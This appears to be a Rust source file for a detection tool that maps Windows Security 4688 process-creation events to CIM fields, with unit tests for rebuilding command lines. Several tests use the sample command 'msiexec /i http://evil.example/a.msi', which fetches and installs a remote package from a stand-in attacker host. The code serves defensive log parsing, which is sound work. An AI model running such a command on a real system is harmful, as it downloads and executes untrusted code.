@@ -1,0 +1,151 @@
+//! Windows Security 4688 in XML rendering (`XmlWinEventLog:Security`), spec 5.4.
+
+use std::borrow::Cow;
+
+use cimhunt_cim::{CimEvent, Field};
+use cimhunt_decode::WinEvent;
+
+use crate::{Outcome, basename, nonempty, windows_time};
+
+const PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
+
+const AUDIT_SUCCESS: &str = "0x8020000000000000";
+const AUDIT_FAILURE: &str = "0x8010000000000000";
+
+/// Whether the event is a Security 4688 (a new process has been created).
+pub fn is_process_creation(win: &WinEvent<'_>) -> bool {
+    let security =
+        win.provider.as_deref() == Some(PROVIDER) || win.channel.as_deref() == Some("Security");
+    security && win.event_id_number() == Some(4688)
+}
+
+/// The Windows add-on's mapping of 4688 to `Processes` fields.
+pub fn map<'a>(win: &'a WinEvent<'_>) -> Outcome<'a> {
+    let time = match windows_time(win) {
+        Ok(t) => t,
+        Err(e) => return Outcome::Invalid(e),
+    };
+    let data = |name| nonempty(win.data(name));
+    let mut e = CimEvent::new();
+    e.time = Some(time);
+    e.set_opt(Field::Dest, nonempty(win.computer.as_deref()));
+    e.set_opt(Field::Host, nonempty(win.computer.as_deref()));
+    let named = |name| data(name).filter(|v| *v != "-");
+    e.set_opt(
+        Field::User,
+        named("TargetUserName").or_else(|| named("SubjectUserName")),
+    );
+    let image = data("NewProcessName");
+    if let Some(image) = image {
+        e.set(Field::ProcessPath, image);
+        e.set(Field::ProcessName, basename(image));
+        e.set(Field::ProcessExec, basename(image));
+    }
+    e.set_opt(Field::Process, process(data("CommandLine"), image));
+    e.set_opt(Field::ProcessId, data("NewProcessId"));
+    e.set_opt(Field::ParentProcessId, data("ProcessId"));
+    if let Some(parent) = data("ParentProcessName") {
+        e.set(Field::ParentProcess, parent);
+        e.set(Field::ParentProcessPath, parent);
+        e.set(Field::ParentProcessName, basename(parent));
+        e.set(Field::ParentProcessExec, basename(parent));
+    }
+    e.set_opt(Field::UserId, nonempty(win.user_id.as_deref()));
+    let action = match win.keywords.as_deref() {
+        Some(AUDIT_SUCCESS) => Some("allowed"),
+        Some(AUDIT_FAILURE) => Some("blocked"),
+        _ => None,
+    };
+    e.set_opt(Field::Action, action);
+    e.set(Field::VendorProduct, "Microsoft Windows");
+    e.push(Field::Tag, "process");
+    e.push(Field::Tag, "report");
+    e.set(Field::Source, "XmlWinEventLog:Security");
+    e.set(Field::Sourcetype, "xmlwineventlog");
+    Outcome::Process(e)
+}
+
+/// The add-on's `process` rule (spec 5.4): the command line when its first token is a path,
+/// otherwise the command line rebuilt on `NewProcessName`; `NewProcessName` when command-line
+/// auditing is off.
+pub fn process<'a>(command_line: Option<&'a str>, image: Option<&'a str>) -> Option<Cow<'a, str>> {
+    let Some(cl) = command_line else {
+        return image.map(Cow::Borrowed);
+    };
+    let (first, rest) = split_first_token(cl);
+    if first.contains('\\') {
+        return Some(Cow::Borrowed(cl));
+    }
+    // No NewProcessName to rebuild on: keep the command line rather than lose it. The add-on's
+    // behaviour here is not documented (an inference, spec 5.4).
+    let Some(image) = image else {
+        return Some(Cow::Borrowed(cl));
+    };
+    if rest.is_empty() {
+        return Some(Cow::Borrowed(image));
+    }
+    let rebuilt = if image.contains(char::is_whitespace) {
+        format!("\"{image}\" {rest}")
+    } else {
+        format!("{image} {rest}")
+    };
+    Some(Cow::Owned(rebuilt))
+}
+
+/// The first token (a leading double-quoted run with its quotes, else the leading run of
+/// non-whitespace) and the rest after the whitespace that follows it.
+fn split_first_token(cl: &str) -> (&str, &str) {
+    let end = if let Some(after_quote) = cl.strip_prefix('"') {
+        after_quote.find('"').map_or(cl.len(), |i| i + 2)
+    } else {
+        cl.find(char::is_whitespace).unwrap_or(cl.len())
+    };
+    let (first, rest) = cl.split_at(end);
+    (first, rest.trim_start())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const N: &str = r"C:\Windows\System32\msiexec.exe";
+
+    #[test]
+    fn command_line_with_a_path_is_kept() {
+        let cl = r#""C:\Windows\System32\msiexec.exe" /i https://x/a.msi"#;
+        assert_eq!(process(Some(cl), Some(N)).as_deref(), Some(cl));
+    }
+
+    #[test]
+    fn command_line_without_a_path_is_rebuilt_cv27() {
+        let got = process(Some("msiexec /i http://evil.example/a.msi"), Some(N));
+        assert_eq!(
+            got.as_deref(),
+            Some(r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi")
+        );
+        let spaced = r"C:\Program Files\Foo\msiexec.exe";
+        let got = process(Some("msiexec /i http://evil.example/a.msi"), Some(spaced));
+        assert_eq!(
+            got.as_deref(),
+            Some(r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#)
+        );
+    }
+
+    #[test]
+    fn no_command_line_gives_the_image_cv28() {
+        assert_eq!(process(None, Some(N)).as_deref(), Some(N));
+        assert_eq!(process(Some("msiexec.exe"), Some(N)).as_deref(), Some(N));
+    }
+
+    #[test]
+    fn quoted_first_token_without_backslash_is_rebuilt() {
+        let got = process(Some(r#""msiexec.exe" /q"#), Some(N));
+        assert_eq!(got.as_deref(), Some(r"C:\Windows\System32\msiexec.exe /q"));
+    }
+
+    #[test]
+    fn unterminated_quote_is_one_token() {
+        assert_eq!(split_first_token(r#""C:\a b"#), (r#""C:\a b"#, ""));
+        assert_eq!(split_first_token("a   b c"), ("a", "b c"));
+    }
+}
